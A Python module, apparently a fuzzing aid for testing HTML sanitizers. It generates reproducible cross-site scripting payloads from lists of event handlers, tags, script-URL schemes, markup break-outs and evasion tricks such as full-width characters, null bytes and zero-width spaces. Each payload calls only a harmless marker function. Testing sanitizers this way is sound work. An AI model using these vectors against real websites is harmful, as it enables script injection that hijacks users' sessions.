"""Hostile text without end: ways to run a script, put into the places from which markup is broken out of.

Whatever runs calls ``fired(number)``, so that a browser can tell which payload it was.
"""

import html
from random import Random

EVENTS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onpointerenter", "ontoggle", "onanimationstart",
    "onbegin", "onwheel", "onpaste", "onbeforeinput", "oncontentvisibilityautostatechange", "OnErRoR",
)  # fmt: skip
TAGS = (
    "img src=x", "svg", "video src=x", "audio src=x autoplay", "body", "details open", "input autofocus",
    "marquee", "iframe src=about:blank", "object data=x", "embed src=x", "select autofocus", "math", "a href=#",
    "p tabindex=1 id=x", "svg><animate attributeName=x", "style", "link rel=stylesheet href=x",
    "keygen autofocus", "x contenteditable",
)  # fmt: skip
SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "&#106;avascript:", "javascript&colon;",
    "\x01javascript:", "data:text/html,", "data:text/html;base64,", "vbscript:", "javascript:javascript:",
    " javascript:", "feed:javascript:", "blob:", "//evil.invalid/", "\\\\evil.invalid/", "http://[::1]/\"",
    "jar:javascript:",
)  # fmt: skip
BREAKS = (
    "", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</noscript>",
    "</template>", "</svg>", '" ', "' ", "` ", "</p></div>", "<!--", "<![CDATA[", "<?xml ", "&quot;>", "\\\">",
    "</a>", "\u2028", "\x00", "\ufeff",
)  # fmt: skip
WRAPS = (
    "{}", "<p>{}</p>", "<svg>{}</svg>", "<math><mtext></mtext><style>{}</style></math>",
    "<noscript>{}</noscript>", "<template>{}</template>", "<textarea>{}</textarea>", "<table><td>{}</table>",
    "<b><i>{}</b></i>", "<a href='{}'>x</a>", "<ul><li>{}<ol>", "<!--{}-->", "<p title='{}'>x</p>",
    "<form><math><mtext></form><form><mglyph><style>{}</style>", "<svg></p><style><a id='{}'>", "{{{{{}}}}}",
    "{{% {} %}}", "<x\x0b{}>", "<<{}>>", "<plaintext>{}", "<xmp>{}</xmp>",
)  # fmt: skip
FULL_WIDTH = str.maketrans("<>\"'=/", "＜＞＂＇＝／")


def payload(number: int, random: Random) -> str:
    """One hostile text; the same number from the same seed gives the same."""
    core = _core(f"fired({number})", random)
    broken_out = random.choice(("", random.choice(BREAKS))) + core
    return _disguised(random.choice(("{}", random.choice(WRAPS))).format(broken_out), random)


def _core(call: str, random: Random) -> str:
    quoted = random.choice([call, f'"{call}"', f"'{call}'", f"`{call}`", html.escape(call).replace("(", "&#40;")])
    scheme = random.choice(SCHEMES)
    return random.choice(
        [
            f"<script>{call}</script>",
            f"<script src=data:,{call}></script>",
            f"<scr<script>ipt>{call}</scr</script>ipt>",
            f"<{random.choice(TAGS)} {random.choice(EVENTS)}={quoted}>",
            f"<{random.choice(TAGS)}/{random.choice(EVENTS)}\x0c=\x0c{quoted}//",
            f'<a href="{scheme}{call}">x</a>',
            f"<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
            f"<svg><script href=data:,{call} /></svg>",
            f'<form action="{scheme}{call}"><button formaction="{scheme}{call}">go</button></form>',
            f'<p style="background:url({scheme}{call});behavior:url(x);width:expression({call})">x</p>',
            f'<meta http-equiv=refresh content="0;url={scheme}{call}">',
            f"<base href='{scheme}//'><img/src=`x`/onerror={quoted}>",
            f"<style>@import '{scheme}{call}';*{{animation:x}}</style>",
            f'{{"@type":"x","y":"</script><script>{call}</script>"}}',
            f'=HYPERLINK("{scheme}{call}")',
            f"${{{call}}}",
            f"<animate attributeName=href values={scheme}{call} /><a id=x>x</a>",
        ]
    )


def _disguised(text: str, random: Random) -> str:
    """As it is, in wide letters that fold into markup, escaped once, or with signs in odd places."""
    way = random.randrange(16)
    if way == 0:
        return text.translate(FULL_WIDTH)
    if way == 1:
        return html.escape(text)
    if way == 2:
        return text.replace("script", random.choice(["scr\x00ipt", "scr\tipt", "ſcript", "SCRİPT", "scr\u200bipt"]))
    if way == 3:
        return text.replace("<", random.choice(["<\x00", "< ", "&lt;", "&#60;", "&#x3c", "\u00bc", "%3C"]))
    return text


def payloads(count: int, *, seed: int = 4) -> list[str]:
    random = Random(seed)
    return [payload(number, random) for number in range(count)]
